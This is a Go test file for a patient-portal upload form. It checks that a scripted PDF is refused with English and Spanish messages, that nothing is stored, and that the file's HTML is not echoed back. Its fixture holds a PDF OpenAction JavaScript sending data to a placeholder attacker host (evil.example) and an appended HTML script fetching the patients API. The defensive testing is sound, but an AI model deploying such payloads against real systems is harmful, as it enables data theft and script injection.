package web

import (
	"bytes"
	"context"
	"mime/multipart"
	"strings"
	"testing"

	"hearth/app/store"
	"hearth/app/testpdf"
)

// scriptedPDF is the outside tester's file: a one-page PDF that runs
// JavaScript when it opens, with an HTML page glued on after its %%EOF.
func scriptedPDF() []byte {
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
		"<< /Type /Action /S /JavaScript /JS (app.launchURL('https://evil.example/'+this.info.Title)) >>",
	}
	b := bytes.NewBuffer(testpdf.Build(objs...))
	b.WriteString("<html><body><script>fetch('/api/v1/patients')</script></body></html>\n")
	return b.Bytes()
}

// TestPatientScriptedPDFRefused: a patient sends the scripted PDF through
// the real compose form. The form comes back with the plain refusal in the
// patient's language (English, then Spanish), the words they typed are kept,
// and nothing is stored: no request, no file.
func TestPatientScriptedPDFRefused(t *testing.T) {
	e := newEnv(t)
	owner := e.owner()
	u, _ := e.patient(owner, "Rosa Delgado", "1961-03-14")
	count := func(bucket string) int {
		var n int
		if err := e.st.View(context.Background(), func(tx store.Tx) error {
			var err error
			n, err = tx.Count(bucket)
			return err
		}); err != nil {
			t.Fatal(err)
		}
		return n
	}
	items, files := count("items"), count("files")
	for _, c := range []struct{ query, want string }{
		{"", "This PDF has scripts, actions or files inside it"},
		{"&lang=es", "Este PDF tiene programas, acciones o archivos dentro"},
	} {
		page := u.get("/new?type=message" + c.query)
		var body bytes.Buffer
		mw := multipart.NewWriter(&body)
		for k, vs := range hiddenInputs(page.body) {
			if err := mw.WriteField(k, vs[0]); err != nil {
				t.Fatal(err)
			}
		}
		if err := mw.WriteField("body", "Here is my insurance letter"); err != nil {
			t.Fatal(err)
		}
		fw, err := mw.CreateFormFile("files", "letter.pdf")
		if err != nil {
			t.Fatal(err)
		}
		if _, err := fw.Write(scriptedPDF()); err != nil {
			t.Fatal(err)
		}
		if err := mw.Close(); err != nil {
			t.Fatal(err)
		}
		r := u.req("POST", "/new", body.String(), "Content-Type", mw.FormDataContentType(), "Origin", e.srv.URL)
		if r.code != 400 {
			t.Fatalf("%s: status %d, want 400", c.query, r.code)
		}
		mustContain(t, "refusal"+c.query, r.body, c.want, "Here is my insurance letter")
		if strings.Contains(r.body, "<script>fetch") {
			t.Fatal("the file's HTML came back on the page")
		}
	}
	if n, m := count("items"), count("files"); n != items || m != files {
		t.Fatalf("stored: items %d -> %d, files %d -> %d", items, n, files, m)
	}
}
